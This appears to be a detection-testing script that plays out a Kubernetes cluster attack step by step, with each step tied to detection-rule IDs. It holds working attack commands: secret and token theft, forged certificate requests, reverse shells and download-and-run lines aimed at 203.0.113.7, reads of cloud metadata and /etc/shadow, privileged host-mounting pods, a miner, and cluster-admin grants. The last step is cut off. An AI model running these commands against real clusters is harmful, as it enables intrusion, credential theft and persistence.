# An attack, step by step. `#: STEP | IDEAS | WHO` begins a step: what it is called, the detection ideas that are to find it, who types
# it. bash runs it with kubectl in PATH; curl knows WHO's certificate or token; $SERVER is the apiserver, $KEYS the cluster's folder.
# Steps stand alone, but for those whose names say so: they run in this order, on one cluster. Addresses are those for documentation.
#
# mallory was given cluster-admin, oscar may only look and write roles in shop, checkout is a service account whose token was taken
# out of its pod, worker-1 is a node whose key was, admin is in system:masters, anonymous has nothing.

# --- looking around ---

#: anonymous-paths | D004 D005 D007 | anonymous
for path in api/v1/secrets api/v1/nodes api/v1/pods apis/apps/v1/deployments api/v1/namespaces/kube-system/configmaps apis/rbac.authorization.k8s.io/v1/clusterroles api/v1/services logs/ metrics; do
  curl -s -o /dev/null "$SERVER/$path"
done
#: can-i-list | D113 | checkout
kubectl auth can-i --list -n shop
#: can-i-sweep | D114 | oscar
for what in "create pods" "get secrets" "create pods/exec" "create clusterrolebindings" "impersonate users" "get nodes/proxy" "create serviceaccounts/token" "update nodes" "delete events" "list secrets -A" "bind clusterroles" "escalate roles" "patch daemonsets" "*  *"; do
  kubectl auth can-i $what || true
done
#: denied-sweep | D117 D118 D119 D039 | oscar
for what in secrets nodes clusterroles clusterrolebindings validatingwebhookconfigurations persistentvolumes certificatesigningrequests storageclasses customresourcedefinitions secrets/x; do
  kubectl get "${what%/*}" -A || true
done
kubectl run x --image=alpine -n kube-system || true
#: recon | D119 D124 | mallory
kubectl get namespaces,nodes -o wide >/dev/null
kubectl get pods,services,configmaps,serviceaccounts,roles,rolebindings -A >/dev/null
kubectl get clusterroles,clusterrolebindings >/dev/null
#: token-in-pod-kubectl | D127 D113 | checkout
kubectl get pods -n shop
kubectl auth can-i create pods -n shop
#: attack-tool | D030 | mallory
curl -s -o /dev/null -A 'python-requests/2.32.3 kube-hunter' "$SERVER/api/v1/pods"
curl -s -o /dev/null -A peirates "$SERVER/api/v1/namespaces"
#: token-from-far-away | D009 D162 D163 | checkout
curl -s -o /dev/null --interface 198.51.100.7 -H 'X-Forwarded-For: 10.0.1.11' "$SERVER/api/v1/namespaces/shop/pods"
#: masters | D160 D159 | admin
kubectl get secrets -n kube-system >/dev/null
#: pod-logs | D126 | mallory
kubectl logs -n kube-system deployment/coredns --tail=1000

# --- secrets ---

#: secrets-everywhere | D093 | mallory
kubectl get secrets -A -o yaml >/dev/null
#: secrets-everywhere-raw | D093 | mallory
kubectl get --raw '/api/v1/secrets?limit=500' >/dev/null
#: secrets-kube-system | D094 | mallory
kubectl get secrets -n kube-system
#: secrets-described | D094 | mallory
kubectl describe secrets -n shop
#: secrets-watched | D095 | mallory
timeout 2 kubectl get secrets -A --watch -o json >/dev/null || true
#: secret-read | D096 | mallory
kubectl get secret payment-gateway -n shop -o 'jsonpath={.data}'
#: secret-selected | D096 | mallory
kubectl get secrets -n shop --field-selector metadata.name=database -o yaml
#: secret-by-dry-run | D096 | mallory
kubectl patch secret database -n shop --dry-run=server -p '{}' -o yaml
#: secrets-one-by-one | D098 | mallory
for name in payment-gateway database registry shop-tls; do kubectl get secret "$name" -n shop -o yaml >/dev/null; done
#: secret-by-curl | D100 | mallory
curl -s -o /dev/null "$SERVER/api/v1/namespaces/shop/secrets/database"
#: secret-disguised | D096 D099 | mallory
curl -s -o /dev/null -A 'kube-controller-manager/v1.35.0 (linux/amd64) kubernetes/$Format/system:serviceaccount:kube-system:generic-garbage-collector' "$SERVER/api/v1/namespaces/shop/secrets/database"
#: secrets-by-pod | D101 D100 | checkout
curl -s -o /dev/null "$SERVER/api/v1/namespaces/shop/secrets"
#: secret-by-node | D101 | worker-1
pod=$(kubectl get pods -n shop -l app=checkout --field-selector spec.nodeName=worker-1 -o name) || true
kubectl get secret database -n shop -o yaml || true
#: secrets-denied | D097 D007 | oscar
for name in $(seq 21); do curl -s -o /dev/null "$SERVER/api/v1/namespaces/shop/secrets/token-$name"; done
#: secret-changed | D103 | mallory
kubectl patch secret registry -n shop -p '{"stringData":{"user":"mallory"}}'
kubectl delete secret registry -n shop
#: configmap-with-keys | D115 | mallory
kubectl create configmap backup -n shop --from-literal=aws_access_key_id=AKIANOTAREALKEY --from-literal=aws_secret_access_key=not-a-real-key

# --- tokens and certificates ---

#: token | D105 | mallory
kubectl create token checkout -n shop >/dev/null
#: token-for-years | D106 D105 | mallory
kubectl create token checkout -n shop --duration=87600h >/dev/null
#: token-of-controller | D107 D105 | mallory
kubectl create token clusterrole-aggregation-controller -n kube-system >/dev/null
#: token-secret | D104 | mallory
kubectl apply -f - <<'YAML'
apiVersion: v1
kind: Secret
metadata: {name: checkout-token, namespace: shop, annotations: {kubernetes.io/service-account.name: checkout}}
type: kubernetes.io/service-account-token
YAML
#: bootstrap-token | D108 | mallory
kubectl create secret generic bootstrap-token-0a1b2c -n kube-system --type=bootstrap.kubernetes.io/token --from-literal=token-id=0a1b2c --from-literal=token-secret=notarealtoken000 --from-literal=usage-bootstrap-authentication=true
#: csr | D109 | mallory
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout /dev/null -subj /CN=backup 2>/dev/null | base64 -w0 >csr
kubectl apply -f - <<YAML
apiVersion: certificates.k8s.io/v1
kind: CertificateSigningRequest
metadata: {name: backup}
spec: {request: $(cat csr), signerName: kubernetes.io/kube-apiserver-client, usages: [client auth]}
YAML
#: csr-self-approved | D110 D111 | mallory
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout /dev/null -subj /CN=system:kube-controller-manager 2>/dev/null | base64 -w0 >csr
kubectl create -f - <<YAML
apiVersion: certificates.k8s.io/v1
kind: CertificateSigningRequest
metadata: {name: controller}
spec: {request: $(cat csr), signerName: kubernetes.io/kube-apiserver-client, usages: [client auth]}
YAML
kubectl certificate approve controller
#: csr-masters | D112 | mallory
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout /dev/null -subj /O=system:masters/CN=kube-admin 2>/dev/null | base64 -w0 >csr
kubectl create -f - <<YAML || true # the apiserver refuses this signer; another one does not
apiVersion: certificates.k8s.io/v1
kind: CertificateSigningRequest
metadata: {name: masters}
spec: {request: $(cat csr), signerName: kubernetes.io/kube-apiserver-client, usages: [client auth]}
YAML
kubectl create -f - <<YAML
apiVersion: certificates.k8s.io/v1
kind: CertificateSigningRequest
metadata: {name: masters-of-another-signer}
spec: {request: $(cat csr), signerName: example.com/signer, usages: [client auth]}
YAML
#: csr-node | D109 D112 | mallory
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout /dev/null -subj /O=system:nodes/CN=system:node:worker-9 2>/dev/null | base64 -w0 >csr
kubectl create -f - <<YAML
apiVersion: certificates.k8s.io/v1
kind: CertificateSigningRequest
metadata: {name: worker-9}
spec: {request: $(cat csr), signerName: kubernetes.io/kube-apiserver-client-kubelet, usages: [client auth, digital signature]}
YAML

# --- commands in containers ---

#: exec | D016 D027 | mallory
kubectl exec -n shop deployment/checkout -- /bin/sh -c id
#: exec-spdy | D016 | mallory
KUBECTL_REMOTE_COMMAND_WEBSOCKETS=false kubectl exec -n shop deployment/checkout -- /bin/bash
#: exec-interactive | D029 D016 | mallory
script -qec 'kubectl exec -it -n shop deployment/checkout -- bash' /dev/null </dev/null
#: exec-kube-system | D017 D016 | mallory
kubectl exec -n kube-system daemonset/kube-proxy -- iptables-save
#: exec-privileged | D168 D017 | mallory
kubectl exec -n kube-system daemonset/cilium -- nsenter -t 1 -m -u -i -n sh
#: exec-reverse-shell | D021 | mallory
kubectl exec -n shop deployment/checkout -- bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'
#: exec-reverse-shell-python | D021 | mallory
kubectl exec -n shop deployment/checkout -- python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
#: exec-netcat | D021 | mallory
kubectl exec -n shop deployment/checkout -- nc -e /bin/sh 203.0.113.7 4444
#: exec-decoded | D021 | mallory
kubectl exec -n shop deployment/checkout -- sh -c 'echo Y3VybCAyMDMuMC4xMTMuNy94LnNo | base64 -d | sh'
#: exec-download | D022 D023 | mallory
kubectl exec -n shop deployment/checkout -- sh -c 'curl -fsSL http://203.0.113.7/x.sh | sh'
#: exec-download-wget | D022 | mallory
kubectl exec -n shop deployment/checkout -- wget -qO /tmp/x https://files.example.net/x
#: exec-metadata | D024 | mallory
kubectl exec -n shop deployment/checkout -- curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/
#: exec-metadata-decimal | D024 | mallory
kubectl exec -n shop deployment/checkout -- wget -qO- http://2852039166/latest/meta-data/
#: exec-metadata-hex | D024 | mallory
kubectl exec -n shop deployment/checkout -- curl -s http://0xA9FEA9FE/computeMetadata/v1/ -H 'Metadata-Flavor: Google'
#: exec-shadow | D025 | mallory
kubectl exec -n shop deployment/checkout -- cat /etc/shadow
#: exec-environ | D025 | mallory
kubectl exec -n shop deployment/checkout -- sh -c 'cat /proc/1/environ; ls -la /root/.kube/config ~/.aws/credentials'
#: exec-token | D026 | mallory
kubectl exec -n shop deployment/checkout -- cat /var/run/secrets/kubernetes.io/serviceaccount/token
#: exec-token-hidden | D026 | mallory
kubectl exec -n shop deployment/checkout -- sh -c 'cd /run//secrets/kubernetes.io/./serviceaccount && cat tok*'
#: exec-percent | D025 D016 | mallory
pod=$(kubectl get pods -n shop -l app=checkout -o 'jsonpath={.items[0].metadata.name}')
curl -s -o /dev/null -m 2 --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: bm90IGEgc2VjcmV0IGtleQ==' -H 'Sec-WebSocket-Protocol: v5.channel.k8s.io' \
  "$SERVER/api/v1/namespaces/shop/pods/$pod/exec?stdout=1&command=%2fbin%2f%73%68&command=-c&command=cat+%2f%65tc%2f%2fsh%61dow" || true
#: exec-reverse-percent | D021 | mallory
pod=$(kubectl get pods -n shop -l app=checkout -o 'jsonpath={.items[0].metadata.name}')
curl -s -o /dev/null -m 2 --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: bm90IGEgc2VjcmV0IGtleQ==' -H 'Sec-WebSocket-Protocol: v5.channel.k8s.io' \
  "$SERVER/api/v1/namespaces/shop/pods/$pod/exec?stdout=1&container=checkout&command=bash&command=-c&command=bash%20-i%20>%26+%2fd%65v/tcp/203.0.113.7/4444+0>%261" || true
#: copy-out | D028 | mallory
pod=$(kubectl get pods -n shop -l app=checkout -o 'jsonpath={.items[0].metadata.name}')
kubectl cp "shop/$pod:/var/lib/app/customers.db" customers.db || true
#: copy-in | D028 | mallory
pod=$(kubectl get pods -n shop -l app=checkout -o 'jsonpath={.items[0].metadata.name}')
echo x >tool
kubectl cp tool "shop/$pod:/tmp/tool" || true
#: attach | D018 | mallory
timeout 3 kubectl attach -n shop deployment/checkout || true
#: port-forward | D019 | mallory
timeout 2 kubectl port-forward -n shop deployment/checkout 18080:8080 || true
#: ephemeral | D031 | mallory
pod=$(kubectl get pods -n shop -l app=checkout -o 'jsonpath={.items[0].metadata.name}')
kubectl debug -n shop "$pod" --image=busybox --target=checkout -- sh
#: ephemeral-privileged | D047 D031 | mallory
pod=$(kubectl get pods -n shop -l app=checkout -o 'jsonpath={.items[0].metadata.name}')
kubectl debug -n shop "$pod" --image=busybox --profile=sysadmin -- sh
#: debug-copy | D060 | mallory
pod=$(kubectl get pods -n shop -l app=checkout -o 'jsonpath={.items[0].metadata.name}')
kubectl debug -n shop "$pod" --image=busybox --copy-to=checkout-debug --share-processes -- sh
#: debug-node | D032 D053 D056 | mallory
kubectl debug node/worker-1 --image=alpine -- chroot /host
#: debug-node-sysadmin | D032 D046 D062 | mallory
kubectl debug node/worker-1 --image=alpine --profile=sysadmin -- chroot /host

# --- pods that reach their node ---

#: privileged | D046 | mallory
kubectl run privileged -n shop --image=alpine --privileged -- sleep 3600
#: privileged-second | D046 | mallory
kubectl apply -f - <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: calico-node, namespace: shop}
spec:
  containers:
  - {name: calico, image: "quay.io/calico/node:v3.29.0"}
  - {name: helper, image: "alpine:3.20", securityContext: {privileged: true}}
YAML
#: privileged-init | D047 | mallory
kubectl apply -f - <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: init, namespace: shop}
spec:
  initContainers: [{name: init, image: "alpine:3.20", command: [sh, -c, "nsenter -t 1 -m sh"], securityContext: {privileged: true}}]
  containers: [{name: app, image: "registry.example.com/shop/front:2.1.0"}]
YAML
#: privileged-deployment | D048 | mallory
kubectl apply -f - <<'YAML'
apiVersion: apps/v1
kind: Deployment
metadata: {name: agent, namespace: shop}
spec:
  selector: {matchLabels: {app: agent}}
  template:
    metadata: {labels: {app: agent}}
    spec: {containers: [{name: agent, image: "alpine:3.20", securityContext: {privileged: true}}]}
YAML
#: privileged-daemonset | D048 D041 D062 | mallory
kubectl apply --server-side -f - <<'YAML'
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: node-agent, namespace: kube-system}
spec:
  selector: {matchLabels: {app: node-agent}}
  template:
    metadata: {labels: {app: node-agent}}
    spec:
      hostPID: true
      hostNetwork: true
      containers: [{name: agent, image: "alpine:3.20", securityContext: {privileged: true}, volumeMounts: [{name: root, mountPath: /host}]}]
      volumes: [{name: root, hostPath: {path: /}}]
YAML
#: takeover-daemonset | D062 D048 D041 | mallory
kubectl apply -f - <<'YAML'
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: node-tuning, namespace: monitoring}
spec:
  selector: {matchLabels: {app: node-tuning}}
  template:
    metadata: {labels: {app: node-tuning}}
    spec:
      hostPID: true
      containers: [{name: pause, image: "registry.k8s.io/pause:3.10"}, {name: tune, image: "alpine:3.20", securityContext: {privileged: true}, volumeMounts: [{name: root, mountPath: /host}]}]
      volumes: [{name: root, hostPath: {path: /.}}]
YAML
#: privileged-cronjob | D048 D040 | mallory
kubectl apply -f - <<'YAML'
apiVersion: batch/v1
kind: CronJob
metadata: {name: sync, namespace: shop}
spec:
  schedule: "*/30 * * * *"
  jobTemplate: {spec: {template: {spec: {restartPolicy: Never, containers: [{name: sync, image: "alpine:3.20", securityContext: {privileged: true}}]}}}}
YAML
#: privileged-job | D048 D040 | mallory
kubectl create -f - <<'YAML'
apiVersion: batch/v1
kind: Job
metadata: {generateName: once-, namespace: shop}
spec: {template: {spec: {restartPolicy: Never, hostPID: true, containers: [{name: once, image: "alpine:3.20", securityContext: {privileged: true}}]}}}
YAML
#: privileged-replicaset | D048 | mallory
kubectl create -f - <<'YAML'
apiVersion: apps/v1
kind: ReplicaSet
metadata: {name: quiet, namespace: shop}
spec:
  selector: {matchLabels: {app: quiet}}
  template:
    metadata: {labels: {app: quiet}}
    spec: {initContainers: [{name: init, image: "alpine:3.20", securityContext: {privileged: true}}], containers: [{name: app, image: "registry.example.com/shop/front:2.1.0"}]}
YAML
#: privileged-statefulset | D048 | mallory
kubectl create -f - <<'YAML'
apiVersion: apps/v1
kind: StatefulSet
metadata: {name: cache, namespace: shop}
spec:
  serviceName: cache
  selector: {matchLabels: {app: cache}}
  template:
    metadata: {labels: {app: cache}}
    spec: {containers: [{name: cache, image: "alpine:3.20", securityContext: {privileged: true}}]}
YAML
#: json-patch-privileged | D048 D043 | mallory
kubectl patch deployment front -n shop --type=json -p '[{"op":"add","path":"/spec/template/spec/containers/0/securityContext","value":{"privileged":true}}]'
#: json-patch-privileged-deep | D048 | mallory
kubectl patch deployment cart -n shop --type=json -p '[{"op":"remove","path":"/spec/template/spec/securityContext"},{"op":"add","path":"/spec/template/spec/hostPID","value":true}]'
#: sidecar | D043 | mallory
kubectl patch deployment checkout -n shop -p '{"spec":{"template":{"spec":{"containers":[{"name":"metrics","image":"203.0.113.7:5000/tap:1","securityContext":{"capabilities":{"add":["NET_RAW"]}}}]}}}}'
#: image-changed | D044 D035 | mallory
kubectl set image deployment/checkout -n shop checkout=203.0.113.7:5000/checkout:1.4.2
#: delivered-changed | D045 | mallory
kubectl patch deployment front -n shop --type=merge -p '{"spec":{"template":{"spec":{"containers":[{"name":"front","image":"203.0.113.7:5000/front:2"}]}}}}'
#: host-path-root | D056 D057 | mallory
kubectl apply -f - <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: root, namespace: shop}
spec:
  containers: [{name: app, image: "alpine:3.20", volumeMounts: [{name: v, mountPath: /host}]}]
  volumes: [{name: v, hostPath: {path: /}}]
YAML
#: host-path-etc | D056 | mallory
kubectl apply -f - <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: etc, namespace: shop}
spec:
  containers: [{name: app, image: "alpine:3.20", volumeMounts: [{name: v, mountPath: /host}]}]
  volumes: [{name: v, hostPath: {path: /etc/}}]
YAML
#: host-path-slashes | D056 | mallory
kubectl apply -f - <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: slashes, namespace: shop}
spec:
  containers: [{name: app, image: "alpine:3.20", volumeMounts: [{name: v, mountPath: /host}]}]
  volumes: [{name: scratch, emptyDir: {}}, {name: v, hostPath: {path: //etc///kubernetes}}]
YAML
#: host-path-kubelet | D056 | mallory
kubectl create -f - <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: kubelet, namespace: shop}
spec:
  containers: [{name: app, image: "alpine:3.20", volumeMounts: [{name: v, mountPath: /host}]}]
  volumes: [{name: v, hostPath: {path: /var/lib/kubelet/pki}}]
YAML
#: docker-socket | D058 | mallory
kubectl apply -f - <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: docker, namespace: shop}
spec:
  containers: [{name: app, image: "docker:27-cli", volumeMounts: [{name: v, mountPath: /var/run/docker.sock}]}]
  volumes: [{name: v, hostPath: {path: /var/run/docker.sock}}]
YAML
#: containerd-socket | D058 | mallory
kubectl apply -f - <<'YAML'
apiVersion: apps/v1
kind: Deployment
metadata: {name: containerd, namespace: shop}
spec:
  selector: {matchLabels: {app: containerd}}
  template:
    metadata: {labels: {app: containerd}}
    spec:
      containers: [{name: app, image: "alpine:3.20", volumeMounts: [{name: v, mountPath: /run/containerd/containerd.sock}]}]
      volumes: [{name: v, hostPath: {path: /run/containerd/containerd.sock, type: Socket}}]
YAML
#: host-network | D052 | mallory
kubectl run host-network -n shop --image=alpine --overrides='{"spec":{"hostNetwork":true}}' -- tcpdump
#: host-pid | D053 | mallory
kubectl run host-pid -n shop --image=alpine --overrides='{"spec":{"hostPID":true}}' -- nsenter -t 1 -m sh
#: host-ipc | D054 | mallory
kubectl run host-ipc -n shop --image=alpine --overrides='{"spec":{"hostIPC":true}}' -- ipcs
#: host-port | D055 | mallory
kubectl run host-port -n shop --image=alpine --port=6443 --overrides='{"spec":{"containers":[{"name":"host-port","image":"alpine","ports":[{"containerPort":6443,"hostPort":6443}]}]}}'
#: capabilities | D051 | mallory
kubectl run capabilities -n shop --image=alpine --overrides='{"spec":{"containers":[{"name":"a","image":"alpine"},{"name":"b","image":"alpine","securityContext":{"capabilities":{"add":["SYS_ADMIN","SYS_PTRACE"]}}}]}}'
#: capabilities-all | D051 | mallory
kubectl run capabilities-all -n shop --image=alpine --overrides='{"spec":{"initContainers":[{"name":"init","image":"alpine","securityContext":{"capabilities":{"drop":["KILL"],"add":["ALL"]}}}]}}'
#: root-user | D050 D049 | mallory
kubectl run root-user -n shop --image=alpine --overrides='{"spec":{"containers":[{"name":"root-user","image":"alpine","securityContext":{"runAsUser":0,"allowPrivilegeEscalation":true}}]}}'
#: share-processes | D060 | mallory
kubectl run share-processes -n shop --image=alpine --overrides='{"spec":{"shareProcessNamespace":true}}'
#: unmasked-proc | D061 | mallory
kubectl run unmasked -n shop --image=alpine --overrides='{"spec":{"hostUsers":false,"containers":[{"name":"unmasked","image":"alpine","securityContext":{"procMount":"Unmasked"}}]}}'
#: unconfined | D061 | mallory
kubectl run unconfined -n shop --image=alpine --overrides='{"spec":{"securityContext":{"seccompProfile":{"type":"Unconfined"},"appArmorProfile":{"type":"Unconfined"}}}}'
#: all-at-once | D062 D046 D053 D056 | mallory
kubectl run everything -n shop --image=alpine --overrides='{"spec":{"nodeName":"worker-1","hostPID":true,"hostNetwork":true,"containers":[{"name":"everything","image":"alpine","stdin":true,"securityContext":{"privileged":true},"volumeMounts":[{"name":"host","mountPath":"/host"}]}],"volumes":[{"name":"host","hostPath":{"path":"/"}}]}}'
#: host-process | D063 | mallory
kubectl run host-process -n shop --image=mcr.microsoft.com/windows/nanoserver:ltsc2022 --overrides='{"spec":{"hostNetwork":true,"nodeSelector":{"kubernetes.io/os":"windows"},"securityContext":{"windowsOptions":{"hostProcess":true,"runAsUserName":"NT AUTHORITY\\SYSTEM"}}}}'
#: warned-of-by-pod-security | D064 D046 | mallory
kubectl run refused -n payments --image=alpine --privileged || true
#: pod-security-lowered | D064 | mallory
kubectl label namespace payments pod-security.kubernetes.io/enforce=privileged --overwrite
#: node-chosen | D070 | mallory
kubectl run node-chosen -n shop --image=alpine --overrides='{"spec":{"nodeSelector":{"node-role.kubernetes.io/control-plane":""},"tolerations":[{"operator":"Exists"}]}}'
#: bound-by-hand | D071 | mallory
kubectl run by-hand -n shop --image=alpine --overrides='{"spec":{"schedulerName":"nobody"}}'
kubectl create --raw /api/v1/namespaces/shop/pods/by-hand/binding -f - <<'JSON'
{"apiVersion":"v1","kind":"Binding","metadata":{"name":"by-hand"},"target":{"apiVersion":"v1","kind":"Node","name":"worker-1"}}
JSON
#: mirror-pod | D068 | worker-2-kubelet
cat >"$KEYS/static-pod.new" <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: etcd-backup, namespace: kube-system}
spec:
  hostNetwork: true
  containers: [{name: etcd, image: "203.0.113.7:5000/etcd:3", securityContext: {privileged: true}, volumeMounts: [{name: v, mountPath: /host}]}]
  volumes: [{name: v, hostPath: {path: /}}]
YAML
mv "$KEYS/static-pod.new" "$KEYS/worker-2/manifests/static-pod.yaml"
until kubectl get pod -n kube-system etcd-backup-worker-2; do sleep 0.3; done
#: mirror-pod-by-key | D068 | worker-1
uid=$(kubectl get node worker-1 -o 'jsonpath={.metadata.uid}')
kubectl create -f - <<YAML
apiVersion: v1
kind: Pod
metadata:
  name: kube-apiserver-worker-1
  namespace: kube-system
  annotations: {kubernetes.io/config.mirror: 0a1b2c3d, kubernetes.io/config.source: file}
  ownerReferences: [{apiVersion: v1, kind: Node, name: worker-1, uid: $uid, controller: true}]
spec: {nodeName: worker-1, hostNetwork: true, containers: [{name: kube-apiserver, image: "203.0.113.7:5000/kube-apiserver:v1.35.0"}]}
YAML

# --- disguises and images ---

#: false-kube-proxy | D065 D067 | mallory
kubectl run kube-proxy-x7k2p -n kube-system --image=203.0.113.7:5000/kube-proxy:v1.35.0 --labels=k8s-app=kube-proxy
#: controller-account | D069 D065 | mallory
kubectl run helper -n kube-system --image=alpine --overrides='{"spec":{"serviceAccountName":"clusterrole-aggregation-controller"}}'
#: kube-system-pod-changed | D157 | mallory
kubectl set image -n kube-system daemonset/kube-proxy kube-proxy=203.0.113.7:5000/kube-proxy:v1.35.0
#: miner | D034 | mallory
kubectl create deployment web -n shop --image=metal3d/xmrig:latest2 --replicas=2
#: miner-by-arguments | D034 | mallory
kubectl run web -n shop --image=registry.example.com/shop/front:2.1.0 --command -- ./front -o stratum+tcp://pool.example.net:3333 --donate-level 1
#: attack-image | D033 | mallory
kubectl run kali -n default --image=kalilinux/kali-rolling -- sleep 3600
#: base-image | D033 D066 | mallory
kubectl run box --image=busybox -- sleep 3600
#: reverse-shell-pod | D038 | mallory
kubectl run shell -n shop --image=alpine --command -- sh -c 'nc 203.0.113.7 4444 -e /bin/sh'
#: reverse-shell-cronjob | D038 D040 | mallory
kubectl create cronjob sync2 -n shop --image=alpine --schedule='*/5 * * * *' -- bash -c 'exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | sh'
#: smash-and-grab | D169 | mallory
kubectl run brief -n shop --image=alpine --overrides='{"spec":{"nodeName":"worker-1"}}' -- sleep 3600
kubectl wait -n shop --for=condition=Ready pod/brief --timeout=20s
until kubectl exec -n shop brief -- id; do sleep 0.2; done
kubectl delete pod brief -n shop --wait=false

# --- permissions ---

#: cluster-admin | D072 D075 | mallory
kubectl create clusterrolebinding backup --clusterrole=cluster-admin --user=eve@example.com
#: cluster-admin-subject-added | D072 D078 | mallory
kubectl patch clusterrolebinding cluster-admin --type=json -p '[{"op":"add","path":"/subjects/-","value":{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"eve@example.com"}}]'
#: default-account | D074 D076 | mallory
kubectl create clusterrolebinding ci --clusterrole=cluster-admin --serviceaccount=default:default
#: anonymous-bound | D003 | mallory
kubectl create clusterrolebinding public --clusterrole=edit --user=system:anonymous --group=system:unauthenticated
#: anyone-bound | D003 | mallory
kubectl apply -f - <<'YAML'
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: everybody}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: "system:authenticated"}]
YAML
#: namespace-admin | D073 D076 | mallory
kubectl create rolebinding helper -n kube-system --clusterrole=admin --serviceaccount=shop:checkout
#: wildcard-role | D077 | mallory
kubectl create clusterrole helper --verb='*' --resource='*.*'
#: wildcard-in-second-rule | D077 | mallory
kubectl apply -f - <<'YAML'
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: helper, namespace: shop}
rules:
- {apiGroups: [""], resources: [configmaps], verbs: [get]}
- {apiGroups: ["*"], resources: ["*"], verbs: ["*"]}
YAML
#: role-grown | D078 | mallory
kubectl patch clusterrole reads-most --type=json -p '[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]'
#: role-escalate | D079 | mallory
kubectl create clusterrole grants --verb=escalate,bind --resource=clusterroles.rbac.authorization.k8s.io
kubectl create clusterrole plays --verb=impersonate --resource=users,groups
#: role-secrets | D080 | mallory
kubectl create clusterrole collects --verb=get,list --resource=configmaps,secrets
#: role-exec | D081 | mallory
kubectl create role enters -n shop --verb=create,get --resource=pods/exec
#: role-kubelet | D082 | mallory
kubectl create clusterrole nodes --verb=get,create --resource=nodes/proxy
#: role-tokens | D083 | mallory
kubectl create clusterrole tokens --verb=create --resource=serviceaccounts/token
kubectl create clusterrole signs --verb=update,approve --resource=certificatesigningrequests.certificates.k8s.io/approval
#: role-workloads | D084 | mallory
kubectl create clusterrole deploys --verb=create,patch --resource=pods,daemonsets.apps,deployments.apps
#: system-role | D085 | mallory
kubectl patch clusterrole system:basic-user --type=json -p '[{"op":"add","path":"/rules/-","value":{"apiGroups":[""],"resources":["secrets"],"verbs":["get"]}}]'
#: system-role-deleted | D085 | mallory
kubectl delete clusterrole system:monitoring
#: role-by-pod | D086 | checkout
kubectl create rolebinding stay -n shop --clusterrole=edit --serviceaccount=shop:default
#: role-chain | D088 D087 | mallory
kubectl create clusterrole chain --verb=get,list --resource=secrets
kubectl create clusterrolebinding chain --clusterrole=chain --serviceaccount=shop:default
kubectl get secrets -A --as=system:serviceaccount:shop:default >/dev/null
kubectl create deployment chain -n shop --image=alpine
#: escalation-denied | D089 | oscar
kubectl create role more -n shop --verb='*' --resource=secrets || true
kubectl create rolebinding more -n shop --clusterrole=cluster-admin --user=oscar@example.com || true
#: aggregated | D090 | mallory
kubectl apply -f - <<'YAML'
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: view-more, labels: {rbac.authorization.k8s.io/aggregate-to-admin: "true", rbac.authorization.k8s.io/aggregate-to-edit: "true"}}
rules: [{apiGroups: [""], resources: [nodes/proxy], verbs: [get, create]}]
YAML
#: as-masters | D091 | mallory
kubectl get secrets -n kube-system --as=nobody --as-group=system:masters
#: as-controller | D091 | mallory
kubectl get secrets -n kube-system --as=system:kube-controller-manager
#: as-controller-account | D091 | mallory
kubectl get pods -A --as=system:serviceaccount:kube-system:clusterrole-aggregation-controller >/dev/null || true
#: as-node | D091 | mallory
kubectl get pods -n kube-system --as=system:node:worker-1 --as-group=system:nodes || true
#: as-person | D092 | mallory
kubectl get pods -n payments --as=carol@example.com --as-group=payments-team
#: account | D138 | mallory
kubectl create serviceaccount backup -n shop
#: account-kube-system | D139 | mallory
kubectl create serviceaccount metrics-reader -n kube-system
#: account-cloud-identity | D140 | mallory
kubectl annotate serviceaccount checkout -n shop eks.amazonaws.com/role-arn=arn:aws:iam::111122223333:role/admin
#: account-cloud-identity-applied | D140 | mallory
kubectl apply -f - <<'YAML'
apiVersion: v1
kind: ServiceAccount
metadata: {name: uploader, namespace: shop, annotations: {iam.gke.io/gcp-service-account: owner@project.iam.gserviceaccount.com}}
YAML
#: anonymous-reads | D001 | anonymous
curl -s -o /dev/null "$SERVER/api/v1/namespaces/shop/pods"
#: anonymous-creates | D002 | anonymous
curl -s -o /dev/null -H 'Content-Type: application/json' -d '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"open"},"spec":{"containers":[{"name":"a","image":"alpine"}]}}' "$SERVER/api/v1/namespaces/shop/pods"

# --- through the apiserver ---

#: kubelet-run | D128 D129 | mallory
pod=$(kubectl get pods -n monitoring -l app=node-exporter --field-selector spec.nodeName=worker-1 -o 'jsonpath={.items[0].metadata.name}')
kubectl create --raw "/api/v1/nodes/worker-1/proxy/run/monitoring/$pod/node-exporter?cmd=id" -f /dev/null
#: kubelet-exec | D128 D129 | mallory
pod=$(kubectl get pods -n monitoring -l app=node-exporter --field-selector spec.nodeName=worker-1 -o 'jsonpath={.items[0].metadata.name}')
